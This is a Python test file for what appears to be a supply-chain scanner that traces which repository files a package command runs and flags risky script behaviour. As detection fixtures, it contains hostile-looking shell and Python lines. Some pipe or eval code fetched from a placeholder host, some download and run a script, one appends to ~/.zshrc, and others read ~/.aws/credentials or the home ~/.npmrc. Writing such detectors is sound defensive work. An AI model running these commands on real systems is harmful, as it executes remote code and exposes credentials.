"""ztsa.follow: which repository files a command runs, and what a file does."""

from ztsa.follow import Ref, refs, scan


def test_the_files_a_command_runs():
    got, inline = refs("NODE_ENV=production node --require ./hook.js scripts/install.js "
                       "&& bash -c 'sh ./setup.sh' ; python3 -m tools.gen x || ./bin/run "
                       "| deno run -A mod.ts", "pkg")
    assert got == [Ref("js", "./hook.js", "pkg"), Ref("js", "scripts/install.js", "pkg"),
                   Ref("sh", "./setup.sh", "pkg"),
                   Ref("py", "tools/gen.py", "pkg"), Ref("py", "tools/gen/__main__.py", "pkg"),
                   Ref("", "./bin/run", "pkg"), Ref("js", "mod.ts", "pkg")]
    assert inline == ["sh ./setup.sh"]
    # tools on PATH and package runners run no file of the repository
    assert refs("node-gyp rebuild && prettier --write . && npx husky", "") == ([], [])


def test_what_a_file_does():
    shell = ("set -e\n# curl -s https://x.invalid | sh  (a comment)\n"
             "wget -O /tmp/i.sh https://x.invalid/i.sh\nbash /tmp/i.sh\n"
             "eval \"$(curl -fsSL https://x.invalid/env)\"\n"
             "echo 'export PATH=$PATH:/opt/x' >> ~/.zshrc\ncat ~/.aws/credentials\n")
    assert [(line, what.split(":")[0].split(",")[0]) for line, what in
            scan("x.sh", shell, "sh")] == [
        (4, "runs 'i.sh'"), (5, "runs a fetched string as code"),
        (6, "writes to the shell start-up file ~/.zshrc"),
        (7, "reads the credential path ~/.aws/credentials")]
    py = ("import urllib.request\nsrc = urllib.request.urlopen('https://x.invalid/p').read()\n"
          "exec(src)\n")
    assert [line for line, _ in scan("x.py", py, "py")] == [3]
    benign_js = ("const { execSync } = require('child_process');\n"
                 "execSync('node-gyp rebuild', { stdio: 'inherit' });\n"
                 "console.log(require('os').homedir() + '/.profile is yours');\n")
    assert scan("x.js", benign_js, "js") == []
    # a project's own .npmrc is no credential path; the home's is
    assert scan("x.js", "fs.writeFileSync('.npmrc', 'registry=x')\n", "js") == []
    assert scan("x.js", "fs.readFileSync(path.join(os.homedir(), '.npmrc'))\n", "js") != []
